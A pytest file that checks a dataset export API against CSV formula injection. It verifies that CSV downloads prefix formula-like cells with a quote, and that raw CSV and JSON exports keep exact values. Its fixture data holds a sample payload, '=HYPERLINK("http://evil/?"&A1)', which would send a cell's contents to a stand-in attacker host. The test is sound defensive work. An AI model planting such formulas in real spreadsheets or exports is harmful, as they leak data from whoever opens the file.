"""DESIGN.md, "Security rules that every feature keeps" (and OWASP's CSV injection rule): a CSV download is safe
to open in a spreadsheet: a text cell that would start a formula gets a leading ', numbers stay numbers, and
`csv_formulas=raw` gives programs the exact values; JSON, NDJSON and Parquet are always exact."""

import csv
import io

import pytest

TABLE = {"label": ['=HYPERLINK("http://evil/?"&A1)', "@SUM(1)", "+1", "-1", "\tx", "ok"], "n": [-5, 1, 2, 3, 4, 5]}
COLUMNS = [
    {"name": "label", "original_name": "label", "type": "text", "nullable": False},
    {"name": "n", "original_name": "n", "type": "integer", "nullable": False},
]


@pytest.fixture
def dataset(make_dataset, workspace, http):
    return make_dataset(workspace, title="Labels", visibility="public", table=TABLE, columns=COLUMNS)


def rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_downloads_neutralise_formulas_and_keep_numbers(dataset, http):
    answer = http.get(f"/api/v1/datasets/{dataset.pk}/export/?format=csv")
    assert answer.status_code == 200
    lines = rows(answer.text)
    assert [line[0] for line in lines[1:]] == ["'" + text if text != "ok" else text for text in TABLE["label"]]
    assert lines[1][1] == "-5"


def test_raw_gives_exact_values_and_json_is_exact(dataset, http):
    raw = rows(http.get(f"/api/v1/datasets/{dataset.pk}/versions/1/export/?format=csv&csv_formulas=raw").text)
    assert [line[0] for line in raw[1:]] == TABLE["label"]
    as_json = http.get(f"/api/v1/datasets/{dataset.pk}/export/?format=json").json()
    assert [row["label"] for row in as_json] == TABLE["label"]
    assert http.get(f"/api/v1/datasets/{dataset.pk}/export/?csv_formulas=maybe").status_code == 400


def test_the_parameter_is_documented(http):
    schema = http.get("/api/schema/?format=json").text
    assert "csv_formulas" in schema
